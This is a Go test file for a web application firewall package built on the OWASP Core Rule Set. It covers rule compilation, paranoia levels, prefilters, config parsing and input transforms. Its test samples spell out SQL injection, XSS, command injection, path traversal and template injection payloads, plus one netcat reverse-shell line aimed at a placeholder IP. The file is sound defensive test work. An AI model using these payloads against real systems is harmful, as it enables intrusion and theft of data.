package crs

import (
	"strings"
	"testing"
)

func TestCompileDefault(t *testing.T) {
	s, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	st := s.Stats
	t.Logf("%+v", st)
	// every attack rule of the compiled files is there, with its class,
	// paranoia level and severity; what is left out is named
	if st.Files != len(ruleFiles) || st.Rules < 170 || st.Regexes < 150 || st.Phrases < 2000 {
		t.Errorf("compiled too little: %+v", st)
	}
	if st.Always > 15 {
		t.Errorf("%d rules without a prefilter", st.Always)
	}
	byID := map[int]*Rule{}
	for _, r := range s.Rules {
		if r.PL < 1 || r.PL > 4 || r.Severity == 0 || r.Class == "" || r.op == 0 {
			t.Errorf("rule %d: %+v", r.ID, r)
		}
		byID[r.ID] = r
	}
	for id, want := range map[int]string{942100: "sqli", 941100: "xss", 932160: "cmd", 930110: "path_traversal", 933160: "cmd"} {
		if r := byID[id]; r == nil || r.Class != want || r.PL != 1 || r.Severity != 5 {
			t.Errorf("rule %d: %+v", id, r)
		}
	}
	// Level knows every tagged rule, compiled or not
	for id, want := range map[int]int{942100: 1, 932236: 2, 932350: 3, 942421: 4, 920100: 0, 1: 0} {
		if got := s.Level(id); got != want {
			t.Errorf("Level(%d) = %d, want %d", id, got, want)
		}
	}
	for _, r := range s.Rules {
		if s.Level(r.ID) != r.PL {
			t.Errorf("rule %d: Level %d, PL %d", r.ID, s.Level(r.ID), r.PL)
		}
	}
}

func TestMatch(t *testing.T) {
	s, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	var sc Scratch
	ids := func(tg Target, hdr, v string, pl int) string {
		var out []string
		for _, h := range s.Match(tg, hdr, v, pl, &sc) {
			out = append(out, h.Rule.Class)
		}
		return strings.Join(out, ",")
	}
	for _, tc := range []struct {
		t    Target
		hdr  string
		v    string
		want string // a class among the hits ("" = no hit)
	}{
		{TArgs, "", "1' or '1'='1", "sqli"},
		{TArgs, "", "<script>alert(1)</script>", "xss"},
		{TArgs, "", "; cat /etc/passwd", "cmd"},
		{TArgs, "", "../../../etc/passwd", "path_traversal"},
		{TCookies, "", "../../../etc/passwd", "path_traversal"},
		{TArgs, "", "hello world", ""},
		{TArgs, "", "2026-01-01", ""},
	} {
		got := ids(tc.t, tc.hdr, tc.v, 2)
		if tc.want == "" && got != "" || tc.want != "" && !strings.Contains(got, tc.want) {
			t.Errorf("%q: classes %q, want %q", tc.v, got, tc.want)
		}
	}
	// paranoia level gates rules: 942120 (SQL operator) is level 2
	if got := ids(TArgs, "", "1042 rlike 1", 1); got != "" {
		t.Errorf("level 1: %q", got)
	}
	if got := ids(TArgs, "", "1042 rlike 1", 2); got != "sqli" {
		t.Errorf("level 2: %q", got)
	}
	// a chain compares the rule's captures: 942130 (both sides of a
	// comparison equal, a tautology) fires on 1=1 and not on a=b, 942131
	// (sides differ) the other way round
	has := func(v string, id int) bool {
		for _, h := range s.Match(TArgs, "", v, 2, &sc) {
			if h.Rule.ID == id {
				return true
			}
		}
		return false
	}
	for _, tc := range []struct {
		v    string
		id   int
		want bool
	}{
		{"1=1", 942130, true}, {"x' or 'a'='a", 942130, true}, {"a=b", 942130, false}, {"size=large", 942130, false},
		{"1!=2", 942131, true}, {"1!=1", 942131, false},
	} {
		if got := has(tc.v, tc.id); got != tc.want {
			t.Errorf("%q: rule %d matched %v, want %v", tc.v, tc.id, got, tc.want)
		}
	}
	if n, ok := txMacro("%{tx.2}"); !ok || n != 2 {
		t.Errorf("txMacro: %d %v", n, ok)
	}
	for _, bad := range []string{"%{TX.12}", "%{tx.a}", "%{MATCHED_VAR}", "tx.2"} {
		if _, ok := txMacro(bad); ok {
			t.Errorf("txMacro(%q) read", bad)
		}
	}
	// header rules name their headers: 930100's target excludes Referer
	if got := ids(THeaders, "referer", "..%c0%af..%c0%af", 1); strings.Contains(got, "path_traversal") {
		t.Errorf("referer: %q", got)
	}
}

// TestPrefilterSound: whenever a compiled regex matches a text, one of its
// prefilter literals occurs in the text (ASCII case folded) — else the
// prefilter would hide matches.
func TestPrefilterSound(t *testing.T) {
	s, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	samples := []string{"1' or '1'='1", "<script>alert(1)</script>", "; cat /etc/passwd", "../../../etc/passwd", "union select 1,2,3 from users--",
		"${IFS}cat${IFS}/etc/passwd", "<img src=x onerror=alert(1)>", "$(whoami)", "`id`", "php://filter/resource=index.php", "{{7*7}}",
		"' and sleep(5)#", "javascript:alert(1)", "1;waitfor delay '0:0:5'--", "<svg/onload=confirm(1)>", "| nc -e /bin/sh 10.0.0.1 4444",
		"C:\\Windows\\win.ini", "&& ping -c 10 127.0.0.1", "eval(base64_decode('x'))", "/*!50000select*/", "admin'--", "x' || 'a'='a"}
	for _, r := range s.Rules {
		if r.op != opRx || r.lits == nil {
			continue
		}
		for _, v := range samples {
			for _, tv := range []string{v, strings.ToUpper(v)} {
				x := tv
				for _, tf := range r.tf {
					x = tf.apply(x)
				}
				if r.re.MatchString(x) && !anyLiteral(r.lits, x) {
					t.Errorf("rule %d matches %q but no prefilter literal occurs", r.ID, x)
				}
			}
		}
	}
}

func anyLiteral(lits []string, s string) bool {
	l := textStart + lowerASCII(s) + textEnd
	for _, x := range lits {
		if strings.Contains(l, x) {
			return true
		}
	}
	return false
}

func FuzzPrefilterSound(f *testing.F) {
	for _, s := range []string{"1' or '1'='1", "<script>", "; cat /etc/passwd", "../../x", "${IFS}", "$(id)", "{{7*7}}"} {
		f.Add(s)
	}
	set, err := Default()
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, v string) {
		if len(v) > 512 {
			return
		}
		for _, r := range set.Rules {
			if r.op != opRx || r.lits == nil {
				continue
			}
			x := v
			for _, tf := range r.tf {
				x = tf.apply(x)
			}
			if r.re.MatchString(x) && !anyLiteral(r.lits, x) {
				t.Fatalf("rule %d matches %q but no prefilter literal occurs", r.ID, x)
			}
		}
	})
}

func TestParseConf(t *testing.T) {
	src := "# comment\nSecRule ARGS \"@rx a\\\"b\" \\\n    \"id:1,phase:2,chain,msg:'x, y'\"\n    SecRule MATCHED_VARS \"@rx c\" \"t:none\"\nSecMarker END\n"
	ds, err := parseConf("t.conf", src)
	if err != nil {
		t.Fatal(err)
	}
	if len(ds) != 2 || ds[0].line != 2 || ds[0].args[1] != `@rx a"b` || ds[0].chained == nil || ds[0].chained.args[0] != "MATCHED_VARS" || ds[1].name != "SecMarker" {
		t.Fatalf("%+v", ds)
	}
	acts := splitActions(ds[0].args[2])
	if len(acts) != 4 || acts[3].name != "msg" || acts[3].value != "x, y" {
		t.Fatalf("%+v", acts)
	}
	for _, bad := range []string{"SecRule ARGS \"@rx a", "SecRule ARGS \"@rx a\" \\"} {
		if _, err := parseConf("t.conf", bad); err == nil || !strings.Contains(err.Error(), "t.conf:1") {
			t.Errorf("%q: error %v", bad, err)
		}
	}
}

func FuzzParseConf(f *testing.F) {
	f.Add("SecRule ARGS \"@rx a\" \"id:1,chain\"\nSecRule TX:0 \"@rx b\" \"t:none\"\n")
	f.Add("SecAction \"id:2,msg:'a,b'\" \\\n")
	f.Fuzz(func(t *testing.T, src string) {
		ds, err := parseConf("f.conf", src)
		if err != nil {
			return
		}
		for _, d := range ds {
			if d.line < 1 || d.name == "" {
				t.Fatalf("%+v", d)
			}
			if len(d.args) > 2 {
				splitActions(d.args[2])
			}
		}
	})
}

func TestTransforms(t *testing.T) {
	for _, tc := range []struct {
		tf      transform
		in, out string
	}{
		{tCmdLine, `C^a"t /ETC/pa'ss\wd; ls  -la`, "cat/etc/passwd ls -la"},
		{tCompressWhitespace, "a \t\n b", "a b"},
		{tRemoveWhitespace, "a b\tc", "abc"},
		{tNormalizePath, "/a/./b/../../etc//passwd", "/etc/passwd"},
		{tNormalizePathWin, `..\..\windows\win.ini`, "../../windows/win.ini"},
		{tReplaceComments, "un/**/ion/*x", "un ion "},
		{tRemoveCommentsChar, "a/*b*/c--d#", "abcd"},
		{tCSSDecode, `\6a\61 vascript`, "javascript"},
		{tEscapeSeqDecode, `\x41\101\n`, "AA\n"},
		{tBase64Decode, "PHNjcmlwdD4=", "<script>"},
		{tRemoveNulls, "a\x00b", "ab"},
	} {
		if got := tc.tf.apply(tc.in); got != tc.out {
			t.Errorf("%d(%q) = %q, want %q", tc.tf, tc.in, got, tc.out)
		}
	}
}

func FuzzTransforms(f *testing.F) {
	f.Add(`\6a\61 /*x*/ ../a\x41 \101`)
	f.Fuzz(func(t *testing.T, s string) {
		for tf := tLowercase; tf <= tTrim; tf++ {
			out := tf.apply(s)
			if len(out) > 4*len(s)+8 {
				t.Fatalf("transform %d grew %d → %d bytes", tf, len(s), len(out))
			}
		}
		// normalizePath is idempotent
		if n := normalizePath(s); normalizePath(n) != n {
			t.Fatalf("normalizePath(%q) = %q, not a fixed point", s, n)
		}
	})
}

// FuzzTxMacro: txMacro reads exactly %{TX.n} (TX in any case), nothing else.
func FuzzTxMacro(f *testing.F) {
	for _, s := range []string{"%{TX.2}", "%{tx.0}", "%{TX.12}", "%{MATCHED_VAR}", ""} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		n, ok := txMacro(s)
		want := len(s) == 7 && strings.EqualFold(s[:5], "%{tx.") && s[5] >= '0' && s[5] <= '9' && s[6] == '}'
		if ok != want || ok && n != int(s[5]-'0') {
			t.Fatalf("txMacro(%q) = %d, %v", s, n, ok)
		}
	})
}
